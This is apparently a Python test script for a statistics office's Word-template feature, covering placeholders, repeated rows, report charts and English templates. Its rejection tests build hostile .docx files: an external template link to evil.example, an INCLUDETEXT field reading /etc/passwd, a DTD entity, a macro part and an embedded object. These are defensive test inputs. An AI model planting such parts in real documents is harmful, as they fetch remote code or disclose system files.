#!/usr/bin/env python3
"""Templates that an office edits in Word: exported, edited by python-docx and by LibreOffice, checked, set, filled in, taken away. Placeholders that
are split over runs, repeated rows, charts and sources of reports, and what is refused. Debian's own Python, because python-docx is Debian's."""
import copy, json, os, sys, zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import debian_python, papers, sample_store
debian_python.need("docx")
import docx
from report_store import check, path, run


def words(file):
    return papers.words_of_docx(file)


def all_text(file):
    with zipfile.ZipFile(file) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))


def with_part(file, to, changes):
    """A copy with other parts: name -> bytes, or a function from the old bytes."""
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(to, "w") as new:
        for name in old.namelist():
            change = changes.get(name)
            new.writestr(name, change(old.read(name)) if callable(change) else change if change is not None else old.read(name))
        for name in set(changes) - set(old.namelist()):
            new.writestr(name, changes[name])
    return to


with open(path("workdays.csv"), "w") as file:
    file.write("year,day,work,name\n" + "".join(f"{year},{day},off,\n" for year in range(2024, 2041) for day in ("saturday", "sunday")))
run("workday", "load", path("workdays.csv"))
run("unit", "add", "卫健委", "--department", "HEALTH")
with open(path("cells.csv"), "w") as file:
    file.write("indicator,unit,sex,age,residence,group,period\nCAESAREAN,卫健委,,,,,2023\nMMR,卫健委,,,,,2023\nCERVICAL_SCREENING,卫健委,,,,,2023\n")
run("round", "create", "--year", "2023", "--due", "2024-04-12", "--cells", path("cells.csv"))
tasks = json.loads(run("task", "list", "1", "--json")[0])
task = str((tasks if isinstance(tasks, list) else tasks["items"])[0]["task"])
notice = lambda name, *more: run("task", "paper", task, "--kind", "notice", "-o", path(name), "--number", "云妇儿工委办〔2024〕3号", *more)

# As exported, a template gives what the program writes by itself.
notice("plain.docx")
for kind in ("notice", "reminder", "return", "order", "annual", "brief", "midterm", "final"):
    run("template", "export", kind, "-o", path(f"{kind}.docx"))
    run("template", "check", kind, path(f"{kind}.docx"))
    names = json.loads(sample_store.run("template", "placeholders", kind, "--json"))["placeholders"]
    check.that(any(n["needed"] for n in names) and all(n["meaning"]["zh"] and n["meaning"]["en"] for n in names), f"{kind}: placeholders have meanings")
run("template", "set", "notice", path("notice.docx"), "--why", "试用")
notice("same.docx")
check.that([p for p in words(path("same.docx"))[0] if p] == [p for p in words(path("plain.docx"))[0] if p] and words(path("same.docx"))[1] == words(path("plain.docx"))[1], f"the built-in form as a template changes nothing: {words(path('same.docx'))} {words(path('plain.docx'))}")
check.that(not papers.order_faults(path("same.docx")) and "{{" not in all_text(path("same.docx")), "element order; nothing left over")
saved = papers.convert(path("same.docx"), "pdf", path("pdf"))
check.that(saved is None or os.path.getsize(saved) > 1000, "LibreOffice opens it")

# Edited: a heading of the office, a placeholder split over three runs of different looks, a table whose row is repeated.
d = docx.Document(path("notice.docx"))
d.paragraphs[0].insert_paragraph_before("办公室专用笺 & <编号>")
p = d.add_paragraph()
for text, bold in (("请", False), ("{{单", True), ("位", False), ("}}于{{日", True), ("期}}前", False), ("办理。", False)):
    p.add_run(text).bold = bold
t = d.add_table(rows=2, cols=3)
for i, text in enumerate(("序", "指标名称", "年")):
    t.rows[0].cells[i].text = text
for i, text in enumerate(("{{行.序号}}", "{{行.指标}}（{{行.计量单位}}）", "{{行.年份}}")):
    t.rows[1].cells[i].text = text
d.save(path("edited.docx"))
as_saved = papers.convert(path("edited.docx"), "docx", path("lo"))
for name, template in (("edited", path("edited.docx")), ("LibreOffice", as_saved)):
    if template is None:
        print("skipped: a template that LibreOffice saved; it is missing")
        continue
    run("template", "set", "notice", template)
    notice(f"{name}.docx")
    paragraphs, tables = words(path(f"{name}.docx"))
    squeezed = [papers.squeeze(p) for p in paragraphs]
    check.that("办公室专用笺&<编号>" in squeezed, f"{name}: the office's own words stay: {paragraphs}")
    check.that(any(p.startswith("请卫健委于") and p.endswith("日前办理。") for p in squeezed), f"{name}: split placeholders: {paragraphs}")
    check.that(len(tables) == 1 and [r[0] for r in tables[0]] == ["序", "1", "2", "3"] and "剖宫产率（%）" in [r[1] for r in tables[0]], f"{name}: a row for each figure, and the built-in table is left out: {tables}")
    check.that(any("请填报" in p for p in squeezed) and any("〔2024〕3号" in p for p in squeezed), f"{name}: the text and the number: {paragraphs}")
    faults = [f for f in papers.order_faults(path(f"{name}.docx")) if f.startswith("word/document.xml")]
    check.that(not faults, f"{name}: element order: {faults[:2]}")
    styles = [x.style.name for x in docx.Document(path(f"{name}.docx")).paragraphs if papers.squeeze(x.text).startswith("请填报")]
    check.that(styles and styles[0] in ("Normal", "正文"), f"{name}: styles: {styles}")
    again = papers.convert(path(f"{name}.docx"), "docx", path("again"))
    check.that(again is None or [papers.squeeze(x) for x in words(again)[0] if x.strip()] == [s for s in squeezed if s], f"{name}: LibreOffice reads the same")
run("template", "reset", "notice", "--why", "改回")
notice("reset.docx")
check.that(words(path("reset.docx")) == words(path("plain.docx")), "back to the built-in form")
listed = json.loads(run("template", "list", "--json")[0])["templates"]
check.that(all(x["at"] is None for x in listed) and len(listed) == 8, f"nothing is set: {listed}")

# A report in a template saved by LibreOffice: charts, styles, and report check.
lo_report = papers.convert(path("annual.docx"), "docx", path("lo")) or path("annual.docx")
d = docx.Document(lo_report)
d.paragraphs[0].insert_paragraph_before("内部资料　注意保存")
d.save(path("annual_own.docx"))
run("template", "set", "annual", path("annual_own.docx"))
run("report", "annual", "--year", "2023", "-o", path("report.docx"), "--issuer", "云溪市统计局")
run("template", "reset", "annual")
run("report", "annual", "--year", "2023", "-o", path("usual.docx"), "--issuer", "云溪市统计局")
paragraphs, tables = words(path("report.docx"))
usual, usual_tables = words(path("usual.docx"))
check.that(papers.squeeze(paragraphs[0]) == "内部资料注意保存" and tables == usual_tables, f"tables of the report: {len(tables)} {len(usual_tables)}")
missing = [p for p in usual if p.strip() and "审计记录" not in p and papers.squeeze(p) not in {papers.squeeze(x) for x in paragraphs}]
check.that(not missing, f"every paragraph of the report: {missing[:3]}")
pictures = lambda file: len([n for n in zipfile.ZipFile(file).namelist() if n.endswith(".png")])
check.that(pictures(path("report.docx")) == pictures(path("usual.docx")) > 20, "its charts")
heads = [p.style.name.lower() for p in docx.Document(path("report.docx")).paragraphs if p.text.startswith("一、总体情况")]
check.that("heading 1" in heads, f"headings: {heads}")
found = json.loads(run("report", "check", path("report.docx"), "--json")[0])
check.that(found["faults"] == found["left_out"] == 0 and found["checked"] > 700, f"report check: {found['checked']}")
pdf = papers.convert(path("report.docx"), "pdf", path("pdf"))
check.that(pdf is None or os.path.getsize(pdf) > 100000, "LibreOffice opens the report")

# Refused: each with what and where, nothing is set.
def refused(name, kind, file, *parts):
    for command in ("check", "set"):
        _, said = run("template", command, kind, file, status=3)
        check.that(all(part in said for part in parts), f"{name}: {said}")

def edited(name, change):
    d = docx.Document(path("notice.docx"))
    change(d)
    d.save(path(name))
    return path(name)

refused("unknown", "notice", edited("u.docx", lambda d: d.add_paragraph("见{{没有这个}}")), "没有这个", "word/document.xml", "段")
refused("no end", "notice", edited("e.docx", lambda d: d.add_paragraph("见{{标题")), "}}", "word/document.xml")
refused("row of another paper", "notice", edited("r.docx", lambda d: d.add_paragraph("{{行.所报}}")), "行.所报")
def without(d, mark):
    for p in list(d.paragraphs):
        if mark in p.text:
            p._p.getparent().remove(p._p)
for mark in ("标题", "主送", "正文", "署名", "日期"):
    refused(f"without {mark}", "notice", edited("n.docx", lambda d: without(d, mark)), "缺少", mark)
refused("macro", "notice", with_part(path("notice.docx"), path("m.docx"), {"word/vbaProject.bin": b"x"}), "宏", "vbaProject")
refused("external link", "notice", with_part(path("notice.docx"), path("x.docx"), {"word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", b'<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')}), "链接")
refused("embedded", "notice", with_part(path("notice.docx"), path("o.docx"), {"word/embeddings/oleObject1.bin": b"x"}), "嵌入")
refused("field", "notice", with_part(path("notice.docx"), path("f.docx"), {"word/footer1.xml": lambda b: b.replace(b" PAGE ", b' INCLUDETEXT "/etc/passwd" ')}), "域")
refused("document type", "notice", with_part(path("notice.docx"), path("d.docx"), {"word/document.xml": lambda b: b.replace(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document', 1)}), "DTD")
refused("not XML", "notice", with_part(path("notice.docx"), path("b.docx"), {"word/styles.xml": b"<w:styles"}), "word/styles.xml")
with open(path("text.docx"), "wb") as file:
    file.write(b"PK no zip")
refused("no zip", "notice", path("text.docx"))
with open(path("big.docx"), "wb") as file:
    file.write(open(path("notice.docx"), "rb").read() + os.urandom(2 * 1024 * 1024))
run("template", "set", "notice", path("big.docx"), status=3)
_, said = run("template", "set", "nothing", path("notice.docx"), status=4)
check.that("nothing" in said, said)
check.that(all(x["at"] is None for x in json.loads(run("template", "list", "--json")[0])["templates"]), "nothing was set")
run("audit", "verify")

# An order: its items by name.
run("order", "problem", "筛查率偏低", "--demand", "限期整改", "--units", "1", "--due", "2099-07-12", "--basis", "监测报告")
d = docx.Document(path("order.docx"))
without(d, "正文")
d.add_paragraph("事由：{{事由}}；要求：{{办理要求}}；单位：{{责任单位}}；数据：{{数据}}")
d.add_paragraph("{{成因}}")
d.save(path("order_own.docx"))
run("template", "set", "order", path("order_own.docx"))
run("order", "file", "1", "-o", path("order_out.docx"))
paragraphs, tables = words(path("order_out.docx"))
before = words(path("order_out.docx"))
check.that("事由：筛查率偏低；要求：限期整改；单位：卫健委；数据：" in [papers.squeeze(p) for p in paragraphs] and not tables and "{{" not in "".join(paragraphs), f"an order: {paragraphs}")

# Papers in English have templates of their own: notice, reminder and order for an English reader; those in Chinese stay as they are.
run("round", "issue", "1")
ENGLISH = {"notice": ("Unit: {{unit}}", "Unit: 卫健委"), "reminder": ("To {{unit}}, on {{day}}", "To 卫健委 (clerk), on 2024-04-15"), "order": ("Matter: {{Matter}}; due {{Due}}", "Matter: 筛查率偏低; due ")}
for kind, (own, expected) in ENGLISH.items():
    paper = ["order", "file", "1"] if kind == "order" else ["task", "paper", task, "--kind", kind, *(["--day", "2024-04-15"] if kind == "reminder" else [])]
    run(*paper, "-o", path("zh_before.docx"))
    run("template", "export", kind, "-o", path(f"{kind}_en.docx"), "--lang", "en")
    check.that("{{body}}" in all_text(path(f"{kind}_en.docx")) or "{{Matter}}" in all_text(path(f"{kind}_en.docx")), f"{kind}: the English form has English placeholders")
    run("template", "check", kind, path(f"{kind}_en.docx"), "--lang", "en")
    d = docx.Document(path(f"{kind}_en.docx"))
    d.paragraphs[0].insert_paragraph_before("Office of Women and Children")
    d.add_paragraph(own)
    d.save(path(f"{kind}_own_en.docx"))
    run("template", "set", kind, path(f"{kind}_own_en.docx"), "--lang", "en")
    run(*paper, "-o", path(f"{kind}_out_en.docx"), "--lang", "en")
    paragraphs = words(path(f"{kind}_out_en.docx"))[0]
    check.that("Office of Women and Children" in paragraphs and any(p.startswith(expected) for p in paragraphs) and "{{" not in "".join(paragraphs), f"{kind} in English: {paragraphs}")
    run(*paper, "-o", path("zh_after.docx"))
    check.that(words(path("zh_after.docx")) == words(path("zh_before.docx")), f"{kind} in Chinese is as before")
listed = {lang: {x["kind"]: x for x in json.loads(run("template", "list", "--json", "--lang", lang)[0])["templates"]} for lang in ("zh", "en")}
check.that([listed["en"][kind]["at"] is not None for kind in ENGLISH] == [True] * 3 and listed["zh"]["notice"]["at"] is None and listed["en"]["notice"]["language"] == "en", f"each language has a list: {listed}")
d = docx.Document(path("notice_own_en.docx"))
d.add_paragraph("{{unitt}}")
d.save(path("wrong_en.docx"))
_, said = run("template", "set", "notice", path("wrong_en.docx"), "--lang", "en", status=3)
check.that("unitt" in said, f"an unknown placeholder is named: {said}")
check.end()
